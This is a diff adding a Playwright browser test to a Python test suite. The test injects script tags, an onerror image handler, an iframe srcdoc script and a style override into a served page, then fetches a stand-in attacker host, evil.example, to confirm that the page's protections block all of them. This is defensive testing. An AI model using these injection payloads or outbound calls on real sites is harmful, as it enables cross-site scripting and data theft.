@@ -169,6 +169,28 @@ def test_all_that_the_page_loads_and_shows_is_of_this_server(window, served):
     assert [url for url in page.watched.asked if not url.startswith((home, "data:"))] == []
 
 
+def test_a_script_that_came_into_the_page_would_not_run_nor_call_out(chromium: Browser, served):
+    context = chromium.new_context()
+    page = context.new_page()
+    page.goto(served)
+    page.wait_for_selector(RESTED)
+    ran = page.evaluate(
+        """async () => {
+            const put = (html) => document.body.append(document.createRange().createContextualFragment(html));
+            put("<script>globalThis.ran = 'inline'</script>");
+            put(`<img src=x onerror='globalThis.ran = 1'>`);
+            put("<script src='https://evil.example/x.js'></script>");
+            put("<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>");
+            put("<style>body { display: none }</style>");
+            const out = await fetch("https://evil.example/", {mode: "no-cors"}).then(() => "out", () => "");
+            await new Promise((later) => setTimeout(later, 200));
+            return [globalThis.ran ?? "", out, getComputedStyle(document.body).display];
+        }"""
+    )
+    assert ran == ["", "", "block"]
+    context.close()
+
+
 def test_a_page_that_was_opened_without_the_secret_says_how_and_can_be_used(window, served):
     home = f"http://{urlsplit(served).netloc}/#scenario=third_post"
     page = window(home, width=TELEPHONE)
